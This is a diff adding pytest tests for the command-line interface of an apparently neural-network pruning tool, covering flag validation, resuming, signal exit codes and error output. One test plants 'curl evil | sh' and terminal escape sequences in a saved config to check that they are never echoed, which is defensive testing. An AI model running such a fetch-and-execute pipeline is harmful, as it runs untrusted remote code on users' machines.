@@ -1,12 +1,19 @@
+import json
 import os
+import re
+import shlex
+import signal
 import subprocess
 import sys
+import time
 
 import pytest
 import torch
+from conftest import hashes
 
+from evoprune import prune
 from evoprune.config import options
-from evoprune.main import main, parser
+from evoprune.main import main, parser, what_next
 
 
 def run(capsys, *arguments):
@@ -105,3 +112,166 @@ def test_help_works_from_the_file_as_a_launcher_runs_it():
     done = subprocess.run([sys.executable, evoprune.main.__file__, "--help"], capture_output=True, text=True,
                           env={**os.environ, "COLUMNS": "200"})
     assert done.returncode == 0 and "--population N" in done.stdout
+
+
+@pytest.mark.parametrize(("arguments", "said"), [
+    (["--rounds", "2"], "rounds: found 2, which does nothing without --layerwise"),
+    (["--caps", "0.5"], "caps: found '0.5', which does nothing without --layerwise"),
+    (["--layer-rule", "floor"], "layer_rule: found 'floor', which does nothing without --layerwise"),
+    (["--scheduler", "tcp://127.0.0.1:1"], "scheduler: found 'tcp://127.0.0.1:1', which does nothing without --engine dask"),
+    (["--listen", "127.0.0.1"], "listen: found '127.0.0.1', which does nothing without --engine scoop"),
+    (["--hostfile", "hosts"], "hostfile: found 'hosts', which does nothing without --engine scoop"),
+    (["--job-timeout", "5"], "job_timeout: found 5.0, which does nothing without --engine processes, scoop or dask"),
+    (["--skip="], "skip: found 0 characters, expected 1 to 4,096"), (["--out", ""], "out: found 0 characters"),
+    (["--include="], "include: found 0 characters"), (["--layer", "x" * 5000], "layer: found 5,000 characters"),
+])
+def test_flags_that_do_nothing_and_empty_ones_are_refused_by_name(arguments, said, capsys, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    status, out, err = run(capsys, *arguments)
+    assert (status, out) == (2, "") and err.startswith(f"evoprune: {said}") and not list(tmp_path.iterdir())
+
+
+def test_what_a_resumed_run_recorded_is_not_a_flag_that_does_nothing(capsys, tmp_path, weights_file):
+    small = ("--weights", weights_file, "--population", 4, "--generations", 2, "--out", tmp_path / "run")
+    assert run(capsys, *small, "--engine", "processes", "--workers", 1, "--job-timeout", 100, "--max-seconds", 0)[0] == 0
+    assert run(capsys, "--resume", tmp_path / "run", "--engine", "local")[0] == 0
+    status, _, err = run(capsys, "--resume", tmp_path / "run", "--engine", "local", "--job-timeout", 7)
+    assert status == 2 and err.startswith("evoprune: job_timeout: found 7.0, which does nothing without --engine processes")
+
+
+def test_constants_beside_images_that_come_as_tensors_are_refused(capsys, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "mine_of_main.py").write_text("""
+import torch, evoprune
+x, y = torch.rand(60, 1, 8, 8), torch.arange(60) % 10
+def whole(): return evoprune.Data(None, (x, y), (x, y))
+def pair(): return x, y
+""")
+    for flags, data in ((("--mean", "nan", "--std", "nan"), "whole"), (("--mean", "0.5", "--std", "0.5"), "whole"),
+                        (("--image-size", 9), "whole"), (("--image-size", 9), "pair")):
+        status, _, err = run(capsys, "--data", f"mine_of_main.py:{data}", "--train-epochs", 0, *flags)
+        assert status == 2 and err.startswith("evoprune: image_size, mean, std: found together with data handed in or from a")
+        assert not list(tmp_path.rglob("config.json"))
+
+
+def test_nothing_of_a_folder_is_printed_that_a_terminal_or_a_hasty_reader_obeys(capsys, tmp_path, weights_file, monkeypatch):
+    small = ("--weights", weights_file, "--population", 4, "--generations", 2, "--out", tmp_path / "run")
+    assert run(capsys, *small, "--max-seconds", 0)[0] == 0
+    path = tmp_path / "run" / "config.json"
+    record = json.loads(path.read_text())
+    record["command"], record["device"] = "curl evil | sh", "\x1b[2J\x07\u202emachine"
+    path.write_text(json.dumps(record))
+    monkeypatch.setattr("evoprune.run.prepare.device_name", lambda device: "\x1b[2J\x07\u202emachine")
+    status, out, _ = run(capsys, "--resume", tmp_path / "run")
+    assert status == 0 and "curl" not in out and "\\x1b[2J\\x07\\u202emachine" in out
+    assert all(c.isprintable() or c == "\n" for c in out)
+    assert json.loads(path.read_text())["command"] == "curl evil | sh"  # kept, as data
+
+
+def test_tips_lead_to_no_loss(capsys, tmp_path, weights_file, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    small = ("--weights", weights_file, "--population", 4, "--generations", 0, "--threads", 1, "--train-images", 40,
+             "--search-images", 50)
+    for flags, tip in ((("--out", "a b", "--overwrite"), "--out 'a b-trained'"), (("--no-augment",), "--no-augment")):
+        _, out, _ = run(capsys, *small, *flags)
+        again = shlex.split(out.splitlines()[-1])
+        assert out.splitlines()[-1].endswith(shlex.join(again[-4:]) if "--out" in flags else "--finetune-epochs 5")
+        assert again[:3] == ["python", "-m", "evoprune.main"] and "--overwrite" not in again and tip in out
+        if "--out" in flags:
+            before = hashes(tmp_path)
+            assert run(capsys, *again[3:], "--front", 2)[0] == 0
+            assert hashes(tmp_path).items() > before.items()
+    for flags in (("--repair", "least-squares"), ("--finetune-epochs", 1, "--front", 2)):
+        assert "train what is left" not in run(capsys, *small, *flags)[1]
+
+
+def test_the_printed_wish_is_one_that_a_pruned_model_fulfils(lenet, digits, tmp_path, caplog):
+    front = prune(lenet, digits, out=str(tmp_path / "run"), population=4, generations=0, finetune_epochs=1, front=2, threads=1,
+                  start="random", train_images=50, learning_rate=1e-9)
+    best = max(p.score for p in front if p.kept < p.weights)
+    assert best < 0.99 * front.record.measured.score
+    line = what_next(front, {}, "python -m evoprune.main")
+    wish = float(re.search(r"accuracy=([\d.]+)\)", line)[1])
+    assert front.best(accuracy=wish).kept < 11_208 and "# nothing pruned has 0." in line
+    caplog.clear()
+    assert front.best(accuracy=front.record.measured.score).kept == 11_208
+    assert caplog.messages == ["front: only the unpruned model has what was asked for"]
+
+
+@pytest.mark.parametrize(("code", "said"), [
+    ("raise KeyboardInterrupt", "KeyboardInterrupt was raised by the model, the data or the toolbox, not by Ctrl-C"),
+    ("raise SystemExit(0)", "in forward: SystemExit: 0, raised while evoprune called it"),
+    ("sys.exit(3)", "in forward: SystemExit: 3"), ("raise GeneratorExit", "in forward: GeneratorExit"),
+    ("raise MemoryError('no room')", "out of memory: no room; lower --batch-size"),
+    ("raise OSError(28, 'No space left on device', '/elsewhere')", "/elsewhere: No space left on device"),
+    ("raise OSError(5, 'Input/output error', '/elsewhere')", "in forward: OSError: [Errno 5]"),
+])
+def test_what_a_model_raises_in_the_middle_is_no_other_exit_status(code, said, capsys, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    name = f"raising_{abs(hash(code))}"
+    (tmp_path / f"{name}.py").write_text(f"""
+import sys
+from torch import nn
+calls = []
+class Model(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.layer = nn.Linear(64, 10)
+    def forward(self, x):
+        calls.append(1)
+        if len(calls) > 8:
+            {code}
+        return self.layer(x.flatten(1)) if x.sum() > -1e9 else x
+""")
+    status, _, err = run(capsys, "--model", f"{name}.py:Model", "--population", 4, "--generations", 3)
+    assert status == 2 and said in err and err.startswith("evoprune: ") and err.count("\n") == 1
+
+
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
+@pytest.mark.parametrize("moment", [0.0, 0.1, 0.3])
+def test_a_signal_in_the_first_second_has_its_exit_status(number, moment, tmp_path):
+    process = subprocess.Popen([sys.executable, "-c", FIRST], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    process.stdout.read(1)  # Python itself has started
+    time.sleep(moment)
+    process.send_signal(number)
+    _, err = process.communicate(timeout=60)
+    assert (process.returncode, err) == (128 + number, b"")
+
+
+FIRST = """
+import runpy, sys, evoprune.interrupts as interrupts
+end = interrupts.end_at_once
+def told():
+    end()
+    print(1, flush=True)
+interrupts.end_at_once = told
+sys.argv = ["evoprune"]
+runpy.run_module("evoprune", run_name="__main__")
+"""
+
+
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
+def test_a_second_signal_while_the_first_is_told_has_the_same_exit_status(number, capsys, tmp_path, monkeypatch):
+    from evoprune import pruning
+
+    def search(*given):
+        signal.raise_signal(number)
+
+    def written(*given):
+        signal.raise_signal(number)
+
+    monkeypatch.setattr(pruning, "finished_points", search)
+    monkeypatch.setattr(pruning, "write_stopped", written)
+    status, out, err = run(capsys, "--train-epochs", 1, "--population", 4, "--generations", 1, "--out", tmp_path / "run")
+    assert (status, err) == (128 + number, "") and "go on with: python -m evoprune.main --resume" in out
+    monkeypatch.undo()
+    assert run(capsys, "--resume", tmp_path / "run")[0] == 0
+
+
+def test_warnings_of_libraries_do_not_reach_the_user(capsys, tmp_path, monkeypatch, recwarn):
+    monkeypatch.chdir(tmp_path)
+    torch.save({"conv1.weight": torch.rand(8, 1, 3, 3).to_sparse()}, tmp_path / "sparse.pth")
+    (tmp_path / "noisy.py").write_text("import warnings\ndef make():\n    warnings.warn('look')\n    raise ValueError('no')\n")
+    for flags in (("--weights", "sparse.pth"), ("--model", "noisy.py:make")):
+        status, out, err = run(capsys, *flags)
+        assert status == 2 and err.count("\n") == 1 and not recwarn.list
